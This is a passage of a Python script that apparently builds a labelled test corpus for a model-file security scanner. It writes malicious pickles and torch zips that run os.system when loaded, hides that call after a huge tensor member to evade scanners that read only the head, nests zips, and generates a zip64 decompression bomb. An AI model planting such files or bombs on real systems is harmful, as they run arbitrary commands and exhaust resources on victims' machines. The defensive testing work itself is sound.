            "base_score": "5E-1",
            "boost_from_average": "1",
            "num_class": "0",
            "num_feature": "4",
            "num_target": "1",
        },
        "objective": {"name": "binary:logistic", "reg_loss_param": {"scale_pos_weight": "1"}},
    },
    "version": [2, 1, 0],
}

LIGHTGBM_MODEL = """\
tree
version=v4
num_class=1
num_tree_per_iteration=1
label_index=0
max_feature_idx=3
objective=binary sigmoid:1
feature_names=f0 f1 f2 f3
feature_infos=[-2:2] [-2:2] [-2:2] [-2:2]
tree_sizes=300

Tree=0
num_leaves=2
num_cat=0
split_feature=0
split_gain=1.5
threshold=0.5
decision_type=2
left_child=-1
right_child=-2
leaf_value=-0.4 0.4
leaf_weight=10 10
leaf_count=10 10
internal_value=0
internal_weight=20
internal_count=20
is_linear=0
shrinkage=1


end of trees

feature_importances:
f0=1

parameters:
[boosting: gbdt]
[objective: binary]
end of parameters

pandas_categorical:null
"""


def build_corpus(root: Path) -> list[Sample]:
    """Write every sample under ``root`` (created if missing) and return them, in a fixed order."""
    root.mkdir(parents=True, exist_ok=True)
    b = _Builder(root)
    steps: list[Callable[[_Builder], None]] = [
        _dangerous_pickles,
        _torch,
        _numpy,
        _archives,
        _keras_and_text,
        _user_class,
        _sklearn_and_mlflow,
    ]
    for step in steps:
        step(b)
    missing = [s.relpath for s in b.samples if not (root / s.relpath).is_file()]
    assert not missing, missing
    return b.samples


def write_manifest(root: Path, samples: list[Sample]) -> Path:
    path = root / "manifest.json"
    path.write_text(json.dumps([asdict(s) for s in samples], indent=1) + "\n")
    return path


def read_manifest(root: Path) -> list[Sample]:
    return [Sample(**entry) for entry in json.loads((root / "manifest.json").read_text())]


def iter_pickle_globals(data: bytes) -> Iterator[str]:
    """The GLOBAL / STACK_GLOBAL names in one pickle stream, found with pickletools (nothing runs).

    A STACK_GLOBAL's operands are the values the two opcodes before it pushed (memo stores between
    them aside): strings, or memo GETs of strings, as Python's pickler writes them."""
    import pickletools

    memo: dict[int, object] = {}
    pushed: list[object] = []  # the value each opcode pushed, in order (None: not a string we know)
    for opcode, arg, _ in pickletools.genops(data):
        name = opcode.name
        if name == "GLOBAL":
            yield str(arg).replace(" ", ".")
        elif name == "STACK_GLOBAL" and len(pushed) >= 2:
            module, attr = pushed[-2], pushed[-1]
            yield f"{module}.{attr}"
        if name == "MEMOIZE":
            memo[len(memo)] = pushed[-1] if pushed else None
        elif name in ("PUT", "BINPUT", "LONG_BINPUT"):
            memo[arg] = pushed[-1] if pushed else None
        elif name in ("GET", "BINGET", "LONG_BINGET"):
            pushed.append(memo.get(arg))
        elif name not in ("FRAME", "PROTO"):
            pushed.append(arg if isinstance(arg, str) else None)


CHUNK = 1 << 20


def write_large_torch_zip(path: Path, mib: int, malicious: bool = False) -> Sample:
    """A torch.save-shaped zip whose one FloatStorage is ``mib`` MiB of zeros, streamed to disk.

    ``malicious`` puts an os.system data.pkl *after* the big member, where a scanner that stops early
    (or reads only a head) would not see it."""
    numel = mib * CHUNK // 4
    state = _OrderedDict(
        [("embedding.weight", tensor(_Storage("FloatStorage", "0", numel), (numel // 1024, 1024)))]
    )
    if malicious:
        state.items.append(("hook", call("os", "system", SHELL)))
    data_pkl = craft(state, 2)
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED, allowZip64=True) as zf:
        if not malicious:
            zf.writestr(zipfile.ZipInfo("archive/data.pkl", FIXED_ZIP_DATE), data_pkl)
        zf.writestr(zipfile.ZipInfo("archive/byteorder", FIXED_ZIP_DATE), b"little")
        with zf.open(zipfile.ZipInfo("archive/data/0", FIXED_ZIP_DATE), "w", force_zip64=True) as member:
            zero = bytes(CHUNK)
            for _ in range(mib):
                member.write(zero)
        if malicious:
            zf.writestr(zipfile.ZipInfo("archive/data.pkl", FIXED_ZIP_DATE), data_pkl)
        zf.writestr(zipfile.ZipInfo("archive/version", FIXED_ZIP_DATE), b"3\n")
    kind = "os.system data.pkl stored after" if malicious else "benign state_dict with"
    return Sample(path.stem, path.name, malicious, f"{kind} a {mib} MiB tensor member")


def write_large_pickle(path: Path, mib: int, malicious: bool = False) -> Sample:
    """A bare protocol-4 pickle ``{'weights': <mib MiB of bytes>}`` (one BINBYTES8), streamed to disk;
    ``malicious`` adds an os.system call as a second value, after the big bytes."""
    size = mib * CHUNK
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("wb") as out:
        out.write(b"\x80\x04}" + b"\x8c\x07weights" + b"\x8e" + struct.pack("<Q", size))
        zero = bytes(CHUNK)
        for _ in range(mib):
            out.write(zero)
        out.write(b"s")
        if malicious:  # d['hook'] = os.system(SHELL): tail of craft(), minus its PROTO and STOP
            command = SHELL.encode()
            out.write(b"\x8c\x04hook\x8c\x02os\x8c\x06system\x93\x8c" + bytes([len(command)]) + command)
            out.write(b"\x85Rs")
        out.write(b".")
    kind = "with os.system after" if malicious else "holding"
    return Sample(path.stem, path.name, malicious, f"bare pickle {kind} one {mib} MiB bytes object")


def nested_zips(payload: bytes, levels: int, name: str = "model.pkl") -> bytes:
    """``payload`` as ``name`` inside ``levels`` zips, each inside the next (level1.zip!level2.zip!...)."""
    data = zip_bytes([(name, payload)])
    for level in range(levels - 1, 0, -1):
        data = zip_bytes([(f"level{level + 1}.zip", data)])
    return data


def write_zip64_bomb(path: Path, gib: int) -> None:
    """A zip whose one deflated member really inflates to ``gib`` GiB of zeros, in ~1 MiB per GiB.

    Written in milliseconds: one deflate block of 1 MiB of zeros, ended with a full flush (so the
    next block needs nothing before it), repeated, then an empty final block. Zip64 sizes; the CRC
    is left 0 (computing it means hashing all those GiB), as a bomb need not be honest about it."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(CHUNK)) + compressor.flush(zlib.Z_FULL_FLUSH)
    size, name = gib << 30, b"weights.bin"
    data_length = len(block) * (size // CHUNK) + 2
    zip64 = struct.pack("<2H2Q", 1, 16, size, data_length)  # extra field 1: uncompressed, compressed
    local = struct.pack(
        "<4s5H3I2H", b"PK\x03\x04", 45, 0, 8, 0, 0x21, 0, 0xFFFFFFFF, 0xFFFFFFFF, len(name), 20
    )
    with path.open("wb") as out:
        out.write(local + name + zip64)
        for _ in range(size // CHUNK):
            out.write(block)
        out.write(b"\x03\x00")  # a final, empty, fixed-Huffman block
        directory_offset = out.tell()
        central = struct.pack(
            "<4s6H3I5H2I",
            b"PK\x01\x02",
            45,
            45,
            0,
            8,
            0,
            0x21,
            0,
            0xFFFFFFFF,
            0xFFFFFFFF,
            len(name),
            20,
            0,
            0,
            0,
            0,
            0,
        )
        out.write(central + name + zip64)
        out.write(
            struct.pack(
                "<4s4H2IH", b"PK\x05\x06", 0, 0, 1, 1, len(central) + len(name) + 20, directory_offset, 0
            )
        )


def write_large_files(root: Path, mib: int) -> list[Sample]:
    """The large-file cases (not part of build_corpus: hundreds of MiB; delete them after use)."""
    return [
        write_large_torch_zip(root / "large_state_dict.pt", mib),
        write_large_torch_zip(root / "large_malicious_tail.pt", mib, malicious=True),
        write_large_pickle(root / "large_bytes.pkl", mib),
        write_large_pickle(root / "large_malicious_tail.pkl", mib, malicious=True),
    ]


if __name__ == "__main__":
    import argparse

    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("root", type=Path, nargs="?", default=Path("/tmp/scan_corpus"))
    parser.add_argument(
        "--large-mib",
        type=int,
        default=0,
        help="instead write the large-file cases of this size (MiB) and their manifest.json",
    )
    options = parser.parse_args()
    if options.large_mib:
        built = write_large_files(options.root, options.large_mib)
    else:
        built = build_corpus(options.root)
    write_manifest(options.root, built)
    print(f"{len(built)} samples ({sum(s.dangerous for s in built)} dangerous) in {options.root}")
